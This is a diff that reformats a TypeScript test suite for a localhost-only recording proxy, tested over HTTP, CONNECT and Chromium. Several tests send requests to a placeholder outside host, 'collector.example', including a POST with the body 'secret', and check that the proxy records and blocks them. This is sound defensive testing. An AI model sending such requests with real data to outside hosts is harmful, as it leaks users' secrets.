@@ -36,7 +36,11 @@ afterAll(async () => {
 });
 
 /** A request through the proxy by hand: the absolute URL as the request target. */
-function throughProxy(url: string, method = 'GET', body = ''): Promise<{ status: number; body: string; complete: boolean }> {
+function throughProxy(
+  url: string,
+  method = 'GET',
+  body = '',
+): Promise<{ status: number; body: string; complete: boolean }> {
   return new Promise((resolve, reject) => {
     const { hostname, port } = new URL(proxy.url);
     const headers = { Host: new URL(url).host, 'X-Marker': 'Mixed Case', 'Proxy-Connection': 'keep-alive' };
@@ -44,7 +48,9 @@ function throughProxy(url: string, method = 'GET', body = ''): Promise<{ status:
       let text = '';
       response.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
       response.on('error', () => undefined);
-      response.on('close', () => resolve({ status: response.statusCode ?? 0, body: text, complete: response.complete }));
+      response.on('close', () =>
+        resolve({ status: response.statusCode ?? 0, body: text, complete: response.complete }),
+      );
     })
       .on('error', reject)
       .end(body);
@@ -54,7 +60,9 @@ function throughProxy(url: string, method = 'GET', body = ''): Promise<{ status:
 /** The first line that the proxy answers to a CONNECT, then what came through the tunnel. */
 function connectThroughProxy(target: string, then = ''): Promise<string> {
   return new Promise((resolve, reject) => {
-    const socket = connect(Number(new URL(proxy.url).port), '127.0.0.1', () => socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
+    const socket = connect(Number(new URL(proxy.url).port), '127.0.0.1', () =>
+      socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`),
+    );
     let text = '';
     socket.on('data', (chunk: Buffer) => {
       if (text === '') socket.write(then);
@@ -66,7 +74,11 @@ function connectThroughProxy(target: string, then = ''): Promise<string> {
 
 describe('over plain HTTP', () => {
   it('forwards to localhost and records the request as it came', async () => {
-    expect(await throughProxy(`${server.origin}/from-page.json?q=1`)).toEqual({ status: 200, body: '"page data"', complete: true });
+    expect(await throughProxy(`${server.origin}/from-page.json?q=1`)).toEqual({
+      status: 200,
+      body: '"page data"',
+      complete: true,
+    });
     expect(proxy.requests).toHaveLength(1);
     expect([proxy.requests[0]?.method, proxy.requests[0]?.url]).toEqual(['GET', `${server.origin}/from-page.json?q=1`]);
     expect(proxy.requests[0]?.headers.slice(0, 3)).toEqual([
@@ -87,14 +99,23 @@ describe('over plain HTTP', () => {
 
   it('records a request to another host and answers 502', async () => {
     const answer = await throughProxy('http://collector.example/c', 'POST', 'secret');
-    expect([answer.status, answer.body]).toEqual([502, 'This proxy forwards to localhost only, not to collector.example\n']);
-    expect([proxy.requests[0]?.url, proxy.requests[0]?.body.toString()]).toEqual(['http://collector.example/c', 'secret']);
+    expect([answer.status, answer.body]).toEqual([
+      502,
+      'This proxy forwards to localhost only, not to collector.example\n',
+    ]);
+    expect([proxy.requests[0]?.url, proxy.requests[0]?.body.toString()]).toEqual([
+      'http://collector.example/c',
+      'secret',
+    ]);
   });
 
   it('records a CONNECT and refuses it unless it is to localhost', async () => {
     expect(await connectThroughProxy('collector.example:443')).toMatch(/^HTTP\/1\.1 403 /);
     const { port } = new URL(server.origin);
-    const answer = await connectThroughProxy(`localhost:${port}`, 'GET /from-page.json HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
+    const answer = await connectThroughProxy(
+      `localhost:${port}`,
+      'GET /from-page.json HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
+    );
     expect(answer).toMatch(/^HTTP\/1\.1 200 /);
     expect(answer).toContain('"page data"');
     expect(proxy.requests.map(({ method, url }) => [method, url])).toEqual([
@@ -130,7 +151,9 @@ describe('under Chromium', () => {
     return page;
   }
 
-  it('sees what a page, an image, a beacon and a worker send to localhost, and nothing else', { timeout: 30_000 }, async () => {
+  it('sees what a page, an image, a beacon and a worker send to localhost, and nothing else', {
+    timeout: 30_000,
+  }, async () => {
     const page = await openPage();
     const answers = await page.evaluate(async () => {
       const fromPage = await (await fetch('/from-page.json')).text();
@@ -139,7 +162,9 @@ describe('under Chromium', () => {
       await image.decode();
       navigator.sendBeacon('/beacon', 'beacon body');
       const worker = new Worker('/worker.js');
-      const fromWorker = await new Promise((resolve) => worker.addEventListener('message', (event) => resolve(event.data)));
+      const fromWorker = await new Promise((resolve) =>
+        worker.addEventListener('message', (event) => resolve(event.data)),
+      );
       return [fromPage, fromWorker];
     });
     expect(answers).toEqual(['"page data"', '"worker data"']);
@@ -158,14 +183,19 @@ describe('under Chromium', () => {
     await page.context().close();
   });
 
-  it('sees what goes to other hosts, in clear and over TLS, and lets none of it through', { timeout: 30_000 }, async () => {
+  it('sees what goes to other hosts, in clear and over TLS, and lets none of it through', {
+    timeout: 30_000,
+  }, async () => {
     const page = await openPage();
     const outcomes = await page.evaluate(async () => {
       const clear = await fetch('http://collector.example/c', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
         (response) => response.type,
         () => 'failed',
       );
-      const tls = await fetch('https://collector.example/c', { mode: 'no-cors' }).then(() => 'answered', () => 'failed');
+      const tls = await fetch('https://collector.example/c', { mode: 'no-cors' }).then(
+        () => 'answered',
+        () => 'failed',
+      );
       return [clear, tls];
     });
     expect(outcomes).toEqual(['opaque', 'failed']);
